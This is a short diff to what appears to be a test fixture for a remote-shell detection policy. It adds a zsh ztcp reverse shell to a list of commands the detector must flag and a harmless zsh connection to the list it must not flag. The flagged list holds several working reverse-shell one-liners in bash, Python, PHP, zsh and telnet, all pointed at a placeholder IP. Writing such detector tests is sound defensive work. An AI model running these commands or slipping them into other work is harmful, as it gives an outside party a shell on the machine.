@@ -27,10 +27,12 @@ export const remoteShell: readonly Policy[] = [
       "exec 5<>/dev/tcp/203.0.113.7/4444; while read line <&5; do $line 2>&5 >&5; done",
       'python3 -c \'import socket,subprocess,os; s=socket.socket(); s.connect(("203.0.113.7",4444)); os.dup2(s.fileno(),0); subprocess.call(["/bin/sh"])\'',
       'php -r \'$s=fsockopen("203.0.113.7",4444); exec("/bin/sh -i <&3 >&3");\'',
+      "zsh -c 'zmodload zsh/net/tcp; ztcp 203.0.113.7 4444; exec sh <&$REPLY'",
       "telnet 203.0.113.7 4444 | sh | telnet 203.0.113.7 4445",
     ],
     misses: [
       "bash -i",
+      "zsh -c 'zmodload zsh/net/tcp; ztcp localhost 80; print GET >&$REPLY'",
       "nc -zv db.example.com 5432",
       "echo PING | nc localhost 6379",
       "ssh deploy@example.com 'bash -s' < deploy.sh",
